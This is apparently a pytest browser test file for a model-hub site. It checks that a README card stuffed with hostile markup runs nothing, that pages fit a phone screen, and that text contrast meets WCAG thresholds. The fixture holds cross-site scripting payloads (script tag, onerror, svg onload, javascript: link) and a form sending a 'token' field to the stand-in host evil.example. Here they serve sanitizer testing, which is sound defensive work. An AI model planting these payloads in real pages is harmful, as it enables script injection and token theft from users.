"""What a real browser makes of a card that attacks it, and of a phone's width."""

import pytest

from tests.chromium import running_chromium

from .conftest import fresh_name, put

HOSTILE = b"""---
license: mit
---
# Card

<script>document.title = "taken over"</script>
<img src="figure.png" onerror="document.title='taken over'">
<svg onload="document.title='taken over'"></svg>
<a href="javascript:document.title='taken over'">press me</a>
<form action="https://evil.example"><input name="token"></form>

| a very long column name that goes on and on | another one that is just as long as that |
|---|---|
| `averylongwordwithoutanyspaceinsidethatcannotbebrokenanywhereatallbyabrowser` | b |
"""

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def browser():
    with running_chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def hostile(api):
    name = f"lab/{fresh_name('hostile')}"
    api.create_repo(name)
    put(api, name, {"README.md": HOSTILE})
    return name


def test_hostile_card_runs_nothing_in_a_browser(browser, hostile, hub_server):
    page = browser.new_page()
    dialogs = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{hub_server.endpoint}/{hostile}")
    page.get_by_text("press me").click()
    assert page.title() == f"{hostile} · LLM Core Lab"
    assert dialogs == []
    assert page.locator(".prose form, .prose input, .prose script, .prose svg").count() == 0
    page.close()


@pytest.mark.parametrize(
    "path", ["/", "/models", "/{}", "/{}/tree/main", "/{}/commits/main", "/login"]
)
def test_pages_fit_a_phone(browser, hostile, hub_server, path):
    page = browser.new_page(viewport={"width": 390, "height": 844})
    page.goto(hub_server.endpoint + path.format(hostile))
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    page.close()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_text_stands_out_from_its_background(browser, hostile, hub_server, scheme):
    page = browser.new_page(color_scheme=scheme)
    page.goto(f"{hub_server.endpoint}/{hostile}")
    for selector, least in (("main", 7.0), (".tabs a:not([aria-current])", 4.5), (".prose", 7.0)):
        assert page.evaluate(CONTRAST, selector) >= least, selector
    page.close()


# WCAG 2 contrast of an element's text with the nearest background that is not transparent.
CONTRAST = """selector => {
  const light = color => {
    const [r, g, b] = color.match(/[\\d.]+/g).map(Number).map(v => v / 255)
      .map(v => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  let element = document.querySelector(selector);
  const text = light(getComputedStyle(element).color);
  while (getComputedStyle(element).backgroundColor === 'rgba(0, 0, 0, 0)') element = element.parentElement;
  const ground = light(getComputedStyle(element).backgroundColor);
  return (Math.max(text, ground) + 0.05) / (Math.min(text, ground) + 0.05);
}"""
